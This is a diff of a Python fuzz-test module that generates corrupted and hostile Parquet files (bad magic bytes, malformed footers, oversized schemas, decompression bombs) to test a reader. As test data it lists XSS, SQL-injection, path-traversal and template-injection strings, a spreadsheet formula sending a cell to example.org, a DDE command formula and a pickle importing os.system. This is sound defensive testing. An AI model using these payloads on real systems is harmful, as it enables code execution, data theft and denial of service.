@@ -18,31 +18,11 @@ import pyarrow.parquet as pq
 
 Named = Iterator[tuple[str, bytes]]
 LONG = "x" * 100_000
-TEXTS = {
-    "script": '<script>document.title="owned"</script>',
-    "image": '<img src=x onerror="document.title=1">',
-    "attribute": "\" autofocus onfocus=document.title='owned' x=\"",
-    "link": "[a](javascript:alert(1)) <javascript:alert(1)>",
-    "entity": "&lt;script&gt;&#0;&amp;",
-    "template": "{{7*7}} ${7*7} <%= 7*7 %> {% raw %}",
-    "formula": '=HYPERLINK("http://example.org/?"&A1,"x")',
-    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "sql": "'; DROP TABLE trials; --",
-    "control": "a\x00b\x07\x1b[31mred\x1b[0m\r\nnext\x7f\x9b",
-    "bidi": "abc\u202egnp.exe\u2066\u2028x",
-    "zalgo": "a" + "\u0301" * 400,
-    "astral": "\U0001f680\ufeff\u200b\ufffd\uffff",
-    "parent": "../../../../../../tmp/owned",
-    "absolute": "/tmp/owned/run.json",
-    "windows": "..\\..\\C:\\owned",
-    "encoded": "%2e%2e%2f%2e%2e%2fowned\x00.json",
-    "dots": "..",
-    "prototype": "__proto__",
-    "constructor": "constructor",
-    "console": "[red]x[/red][link=http://example.org]y[/link][/]",
-    "empty": "",
-    "long": LONG,
-}
+TEXTS = (
+    *('<script>document.title="owned"</script>', "[a](javascript:alert(1))", "{{7*7}} ${7*7}", "=SUM(1)", "'; DROP --"),
+    *("a\x00b\x07\x1b[31mred\x1b[0m\r\nnext\x7f\x9b", "abc\u202egnp.exe\u2066\u2028x", "a" + "\u0301" * 400, "\ufeff"),
+    *("../../../../../../tmp/owned", "..\\..\\C:\\owned", "..", "__proto__", "[red]x[/red]", "", LONG),
+)
 """Strings that must never be more than text."""
 NUMBERS = (-1, 0, 1, 2**31 - 1, -(2**31), 2**40, 2**62, 2**63 - 1, -(2**63))
 FLOATS = (float("nan"), float("inf"), float("-inf"), -1.0, 1e308, 5e-324)
@@ -54,15 +34,7 @@ HIDDEN = 2**31
 
 
 def mutated(valid: bytes, seed: int) -> Named:
-    """Make files that are not what they should be.
-
-    Args:
-        valid: the bytes of a valid ``trials.parquet`` of a few dozen rows.
-        seed: of everything that is drawn.
-
-    Yields:
-        Name and bytes.
-    """
+    """Make files that are not what they should be, of the bytes of a valid file of a few dozen rows."""
     running = [kind(valid, random.Random(f"{seed}:{name}")) for name, kind in KINDS.items()]
     while running:
         for kind in list(running):
@@ -91,16 +63,10 @@ def _flipped(valid: bytes, draw: random.Random) -> Named:
 def _overwritten(valid: bytes, draw: random.Random) -> Named:
     for at in range(300):
         begin, size = draw.randrange(len(valid)), draw.choice((1, 2, 8, 64, 1024))
-        filled = {
-            "zeros": bytes(size),
-            "ones": b"\xff" * size,
-            "noise": draw.randbytes(size),
-            "elsewhere": valid[(other := draw.randrange(len(valid))) : other + size],
-        }
-        how = draw.choice((*filled, "removed", "inserted"))
-        kept = begin if how == "inserted" else begin + size
-        put = b"" if how == "removed" else filled.get(how, filled["noise"])
-        yield f"overwritten/{how}/{at}", valid[:begin] + put + valid[kept:]
+        other = draw.randrange(len(valid))
+        put = draw.choice((b"", bytes(size), b"\xff" * size, draw.randbytes(size), valid[other : other + size]))
+        kept = begin + draw.choice((0, size))
+        yield f"overwritten/{kept - begin}/{at}", valid[:begin] + put + valid[kept:] if put else valid[:begin]
 
 
 def damaged(valid: bytes, name: str, draw: random.Random) -> bytes:
@@ -120,26 +86,13 @@ def _damaged(valid: bytes, draw: random.Random) -> Named:
 
 
 def _magic(valid: bytes, draw: random.Random) -> Named:
-    body = valid[4:-4]
-    for begin, end in ((b"PARE", b"PARE"), (b"PAR2", raw.MAGIC), (raw.MAGIC, b"PAR0"), (b"par1", b"par1"), (b"", b"")):
-        yield f"magic/{(begin + end).decode() or 'none'}/0", begin + body + end
-    others = {
-        "zip": b"PK\x03\x04" + draw.randbytes(500),
-        "gzip": b"\x1f\x8b\x08" + draw.randbytes(500),
-        "zstd": b"\x28\xb5\x2f\xfd" + draw.randbytes(500),
-        "elf": b"\x7fELF" + draw.randbytes(500),
-        "pickle": b"\x80\x04\x95\x1a\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93.",
-        "arrow": b"ARROW1\x00\x00" + draw.randbytes(500),
-        "html": b"<!doctype html><script>document.title='owned'</script>",
-        "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='document.title=1'/>",
-        "json": b'{"schema_version": 1}',
-        "csv": b"run_id,trial_id\n=1+1,x\n",
-        "twice": raw.MAGIC * 3,
-        "twelve": raw.MAGIC + bytes(4) + raw.MAGIC,
-        "encrypted": b"PARE" + body + b"PARE",
-    }
-    for name, data in others.items():
-        yield f"magic/{name}/0", data
+    body, heads = valid[4:-4], (b"PK\x03\x04", b"\x1f\x8b\x08", b"\x28\xb5\x2f\xfd", b"\x7fELF", b"ARROW1\x00\x00")
+    ends = ((b"PARE", b"PARE"), (b"PAR2", raw.MAGIC), (raw.MAGIC, b"PAR0"), (b"par1", b"par1"), (b"", b""))
+    texts = (b"<!doctype html><script>document.title='owned'</script>", b'{"schema_version": 1}', b"run_id\n=1+1\n")
+    others = (*texts, b"\x80\x04\x8c\x05posix\x8c\x06system\x93.", raw.MAGIC * 3, raw.MAGIC + bytes(4) + raw.MAGIC)
+    files = (*(begin + body + end for begin, end in ends), *(head + draw.randbytes(500) for head in heads), *others)
+    for at, data in enumerate(files):
+        yield f"magic/{data[:4]!r}/{at}", data
 
 
 def _declared(valid: bytes, draw: random.Random) -> Named:
@@ -148,8 +101,8 @@ def _declared(valid: bytes, draw: random.Random) -> Named:
     places = list(raw.leaves(footer))
     for at in range(500):
         holder, key, kind, before = draw.choice(places)
-        texts = [text.encode() for text in TEXTS.values()]
-        value = draw.choice(texts) if kind == raw.BINARY else draw.choice((*NUMBERS, draw.choice(places)[3]))
+        text = draw.choice(TEXTS).encode()
+        value = text if kind == raw.BINARY else draw.choice((*NUMBERS, draw.choice(places)[3]))
         holder[key] = (kind, value) if isinstance(holder, dict) else value
         try:
             yield f"declared/{key}/{at}", raw.closed(valid, footer)
@@ -164,25 +117,34 @@ def _pages(valid: bytes, draw: random.Random) -> Named:
     for at in range(250):
         footer = raw.footer_of(valid)
         chunk = draw.choice(raw.chunks(footer))
-        begin, size = raw.place(chunk)
-        reader = raw.Reader(valid, begin)
-        header = reader.struct()
+        header, rest = raw.first_page(valid, chunk)
         holder, key, kind, _ = draw.choice([leaf for leaf in raw.leaves(header) if leaf[2] != raw.BINARY])
         value = draw.choice(NUMBERS)
         holder[key] = (kind, value) if isinstance(holder, dict) else value
-        page = raw.struct(header) + valid[reader.at : begin + size]
-        yield f"pages/{key}={value}/{at}", raw.repointed(valid, footer, chunk, page)
+        yield f"pages/{key}={value}/{at}", raw.repointed(valid, footer, chunk, raw.struct(header) + rest)
 
 
 def _schemas(valid: bytes, draw: random.Random) -> Named:
     """Schemas that no run has: a million columns, groups in groups, more children than there are."""
-    for count in (0, 1_000, 100_000, 1_000_000):
-        yield f"schemas/columns/{count}", raw.without_rows(raw.columns(count), count + 1)
-    for depth in (20, 1_000, 100_000):
-        yield f"schemas/depth/{depth}", raw.without_rows(raw.groups(depth), depth + 1)
-        yield f"schemas/structs/{depth}", raw.structs(depth)
+    version, rest = raw.struct({1: (raw.I32, 2)})[:-1], raw.struct({2: (raw.I64, 0), 3: (raw.LIST, (raw.STRUCT, []))})
+    column = {1: (raw.I32, 2), 3: (raw.I32, 1), 4: (raw.BINARY, b"0000000")}
+    before, after = raw.struct(column).split(b"0000000")
+    group = raw.struct({4: (raw.BINARY, b"group"), 5: (raw.I32, 1)})
+
+    def without_rows(elements: bytes, count: int) -> bytes:
+        head = bytes([0x19, 0xF0 | raw.STRUCT]) + raw.varint(count)
+        return raw.MAGIC + raw.ended(version + head + elements + bytes([rest[0] - 0x10]) + rest[1:])
+
+    for count in (0, 1_000, 1_000_000):
+        names = b"".join(before + b"%07d" % at + after for at in range(count))
+        root = raw.struct({4: (raw.BINARY, b"schema"), 5: (raw.I32, count)})
+        yield f"schemas/columns/{count}", without_rows(root + names, count + 1)
+    for depth in (20, 100_000):
+        yield f"schemas/depth/{depth}", without_rows(group * depth + raw.struct(column), depth + 1)
+        structs = bytes([0xBC]) + bytes([0x1C]) * depth + bytes(depth + 2)  # in a field that nobody knows
+        yield f"schemas/structs/{depth}", raw.MAGIC + raw.ended(version + structs)
     for size in (2**31 - 1, 2**32 - 1, 2**62):
-        yield f"schemas/list/{size}", raw.long_list(size, draw.randbytes(50))
+        yield f"schemas/list/{size}", without_rows(draw.randbytes(50), size)
     groups = [raw.struct(group) for group in raw.footer_of(valid)[4][1][1]]
     for more in (10_000, 1_000_000):
         footer = raw.footer_of(valid)
@@ -197,29 +159,25 @@ def _schemas(valid: bytes, draw: random.Random) -> Named:
 def _bombs(valid: bytes, draw: random.Random) -> Named:
     """Small files that ask their reader for much."""
     table = read(valid)
-    said = table.schema.metadata
-    yield (
-        "bombs/one_text/64MB",
-        written(with_values(table, "error_message", ["\0" * 2**26] + [None] * (len(table) - 1))),
-    )
+    about = {"metadata": table.schema.metadata}
+    long = with_values(table, "error_message", ["\0" * 2**26] + [None] * (len(table) - 1))
+    yield "bombs/one_text/64MB", written(long)
     words = pa.DictionaryArray.from_arrays(pa.array([0] * 15_000, pa.int32()), pa.array([LONG]))
     # The writer would spell the texts out if their dictionary were too large for it.
     kept = {"store_schema": False, "dictionary_pagesize_limit": 2**30}
-    yield "bombs/dictionary/1500MB", written(pa.table({"run_id": words}, metadata=said), **kept)
-    yield "bombs/nulls/5000000", written(pa.table({"wall_ns": pa.nulls(5_000_000, pa.int64())}, metadata=said))
-    yield "bombs/rows/3000000", written(pa.table({"run_id": pa.array(["x"] * 3_000_000)}, metadata=said))
+    yield "bombs/dictionary/1500MB", written(pa.table({"run_id": words}, **about), **kept)
+    yield "bombs/nulls/5000000", written(pa.table({"wall_ns": pa.nulls(5_000_000, pa.int64())}, **about))
+    yield "bombs/rows/3000000", written(pa.table({"run_id": pa.array(["x"] * 3_000_000)}, **about))
     frame = pa.Codec("zstd").compress(bytes(2**24), asbytes=True)
-    for frames, kind in ((4, 0), (64, 0), (127, 0), (127, 2)):  # as many frames as wanted make one page
+    for frames, kind in ((4, 0), (127, 0), (127, 2)):  # as many frames as wanted make one page
         footer = raw.footer_of(valid)
-        chunk = draw.choice([chunk for chunk in raw.chunks(footer) if chunk[3][1][1] == [b"wall_ns"]])
+        chunk = raw.chunk_of(footer, "wall_ns")
         chunk[4] = (raw.I32, ZSTD)
         counts = {1: (raw.I32, frames * 2**21), 2: (raw.I32, 0)}
         levels = {} if kind else {3: (raw.I32, 3), 4: (raw.I32, 3)}
         page = raw.page(kind, counts | levels, frame * frames, frames * 2**24)
-        yield (
-            f"bombs/{'dictionary' if kind else 'data'}_page/{frames * 16}MB",
-            raw.repointed(valid, footer, chunk, page),
-        )
+        what = "dictionary" if kind else "data"
+        yield f"bombs/{what}_page/{frames * 16}MB", raw.repointed(valid, footer, chunk, page)
 
 
 def _ambiguous(valid: bytes, draw: random.Random) -> Named:
@@ -241,14 +199,12 @@ def _ambiguous(valid: bytes, draw: random.Random) -> Named:
         yield f"ambiguous/rows_{name}/0", raw.closed(valid, footer)
     for at, number in enumerate((1, 2)):
         footer = raw.footer_of(valid)
-        chunk = next(chunk for chunk in raw.chunks(footer) if chunk[3][1][1] == [b"samples_per_s"])
-        begin, size = raw.place(chunk)
-        reader = raw.Reader(valid, begin)
-        header = reader.struct()
+        chunk = raw.chunk_of(footer, "samples_per_s")
+        header, rest = raw.first_page(valid, chunk)
         before = len(raw.struct(header))
         about = header if number == 2 else header[7 if 7 in header else 5][1]
         about[HIDDEN + number] = (raw.I32, 2**31 - 1)
-        page = raw.struct(header) + valid[reader.at : begin + size]
+        page = raw.struct(header) + rest
         chunk[6] = (raw.I64, chunk[6][1] + len(raw.struct(header)) - before)
         yield f"ambiguous/page_{'size' if number == 2 else 'values'}/{at}", raw.repointed(valid, footer, chunk, page)
 
@@ -258,7 +214,7 @@ def _values(valid: bytes, draw: random.Random) -> Named:
     table = read(valid)
     options: dict[Any, tuple[Any, ...]] = {pa.int64(): NUMBERS, pa.float64(): FLOATS, pa.bool_(): (None,)}
     for field in table.schema:
-        for value in draw.sample(chosen := options.get(field.type, (*TEXTS.values(), None)), min(2, len(chosen))):
+        for value in draw.sample(chosen := options.get(field.type, (*TEXTS, None)), min(2, len(chosen))):
             values = table[field.name].to_pylist()
             rows = range(len(values)) if draw.random() < 0.3 else [draw.randrange(len(values))]
             for row in rows:
